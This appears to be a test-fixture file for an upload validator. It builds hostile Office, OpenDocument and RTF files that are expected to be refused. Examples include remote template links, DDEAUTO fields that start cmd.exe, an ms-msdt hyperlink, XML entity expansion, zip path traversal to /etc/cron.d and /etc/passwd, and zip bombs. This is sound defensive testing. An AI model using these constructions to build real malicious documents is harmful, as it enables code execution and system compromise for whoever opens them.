import { officeFiles, zip } from '../zip.js';
import { type HostileFile, isRefused } from './expected-answer.js';
import { marker } from './marker.js';
import {
  types,
  paragraph,
  part,
  docx,
  docxOf,
  xlsx,
  pptx,
  odf,
  relations,
  linked,
  field,
  wideRelations,
  lockedEntry,
  compound,
  rich,
  entities,
} from './office-makers.js';

const external = 'file.office.external';
const commands = 'file.office.commands';
const irregular = 'file.office.irregular';

/** Office files that fetch, start programs, are built oddly, locked or damaged. */
export const officeLinks: readonly HostileFile[] = [
  isRefused(
    external,
    'a template on the web',
    'brev.docx',
    linked('attachedTemplate', `https://${marker}.example/x.dotm`),
  ),
  isRefused(
    external,
    'a template on a share',
    'brev.docx',
    linked('attachedTemplate', 'file:///\\\\10.0.0.1\\x.dotm'),
  ),
  isRefused(external, 'a template, in wide letters', 'brev.docx', wideRelations),
  isRefused(
    external,
    'a template, its address written in numbers',
    'brev.docx',
    linked('attachedTemplate', '&#104;ttp&#58;//x.example/x.dotm'),
  ),
  isRefused(external, 'a picture on the web', 'notat.docx', linked('image', 'http://x.example/spor.png')),
  isRefused(
    external,
    'an object on the web',
    'notat.docx',
    linked('oleObject', 'mhtml:http://x.example/x!x-usc:http://x.example/x'),
  ),
  isRefused(
    external,
    'a field that fetches a picture',
    'notat.docx',
    field('INCLUDE', 'PICTURE "http://x.example/x.png" \\d'),
  ),
  isRefused(
    external,
    'a spreadsheet linked to another',
    'tall.xlsx',
    xlsx(
      part(
        'xl/externalLinks/_rels/externalLink1.xml.rels',
        relations('externalLinkPath', 'https://x.example/y.xlsx'),
      ),
    ),
  ),
  isRefused(
    external,
    'an OpenDocument text with a picture on the web',
    'notat.odt',
    odf('text', '<draw:image xlink:href="http://x.example/x.png"/>'),
  ),
  isRefused(
    external,
    'rich text with a template on the web',
    'brev.rtf',
    rich('{\\*\\template http://x.example/x.dotm}'),
  ),
  isRefused(
    commands,
    'a field that starts a program',
    'notat.docx',
    field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'),
  ),
  isRefused(commands, 'the same in pieces', 'notat.docx', field('D', 'DE', ' cmd')),
  isRefused(commands, 'the same as one field', 'notat.docx', docxOf('<w:fldSimple w:instr="DDE cmd"/>')),
  isRefused(
    commands,
    'a link that starts a tool',
    'notat.docx',
    linked('hyperlink', 'ms-msdt:/id PCWDiagnostic'),
  ),
  isRefused(commands, 'a link with a script', 'notat.docx', linked('hyperlink', 'javascript:alert(1)')),
  isRefused(
    commands,
    'a spreadsheet that asks a program',
    'tall.xlsx',
    xlsx(part('xl/externalLinks/externalLink1.xml', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')),
  ),
  isRefused(
    commands,
    'slides with a program behind a click',
    'lysark.pptx',
    pptx(part('ppt/slides/slide1.xml', '<a:hlinkClick action="ppaction://program"/>')),
  ),
  isRefused(
    commands,
    'an OpenDocument spreadsheet that asks a program',
    'tall.ods',
    odf('spreadsheet', '<office:dde-source office:dde-application="cmd"/>'),
  ),
  isRefused(
    commands,
    'an old Word file that asks a program',
    'notat.doc',
    compound('WordDocument', 'DDEAUTO cmd'),
  ),
  isRefused(
    commands,
    'rich text that asks a program',
    'notat.rtf',
    rich('{\\field{\\*\\fldinst {DDEAUTO cmd}}}'),
  ),
  isRefused(irregular, 'entities that swell', 'notat.docx', () =>
    zip([types, part('word/document.xml', `${entities}<w:document>&c;</w:document>`)]),
  ),
  isRefused(
    irregular,
    'the same part twice',
    'notat.docx',
    docx(part('word/document.xml', paragraph(marker))),
  ),
  isRefused(
    irregular,
    'the same part in other letters',
    'notat.docx',
    docx(part('WORD/Document.xml', paragraph(marker))),
  ),
  isRefused('file.office.password', 'a Word file behind a password', 'notat.docx', officeFiles.password),
  isRefused(
    'file.office.password',
    'an OpenDocument text behind a password',
    'notat.odt',
    odf('text', 'x', part('META-INF/manifest.xml', '<manifest:encryption-data/>')),
  ),
  isRefused(
    'file.zip.broken',
    'a part that wants out of the file',
    'notat.docx',
    docx(part('../../etc/cron.d/x', marker)),
  ),
  isRefused(
    'file.zip.broken',
    'a part with a path from the root',
    'notat.docx',
    docx(part('/etc/passwd', marker)),
  ),
  isRefused('file.zip.broken', 'a locked part', 'notat.docx', lockedEntry),
  isRefused('file.zip.broken', 'a container cut off', 'notat.docx', officeFiles.cutOff),
  isRefused('file.zip.broken', 'a bomb that lies about its size', 'notat.docx', officeFiles.lyingBomb),
  isRefused(
    'file.zip.tooLarge',
    'a bomb',
    'notat.docx',
    docx(part('word/media/x.bmp', Buffer.alloc(50_000_000))),
  ),
  isRefused(
    'file.zip.tooLarge',
    'a text of 70 MB',
    'notat.docx',
    docx(part('word/x.xml', Buffer.alloc(70_000_000, 32))),
  ),
  isRefused('file.zip.tooLarge', 'ten thousand parts', 'notat.docx', officeFiles.manyEntries),
  isRefused('file.unknownType', 'a program for Java named as Word', 'notat.docx', () =>
    zip([part('META-INF/MANIFEST.MF', 'Main-Class: X'), part('X.class', marker)]),
  ),
  isRefused('file.unknownType', 'an archive', 'alt.zip', officeFiles.plainZip),
  isRefused('file.unknownType', 'an installer', 'notat.doc', compound('Installer')),
  isRefused('storedFile.nameMismatch', 'a spreadsheet named as Word', 'notat.docx', xlsx()),
];
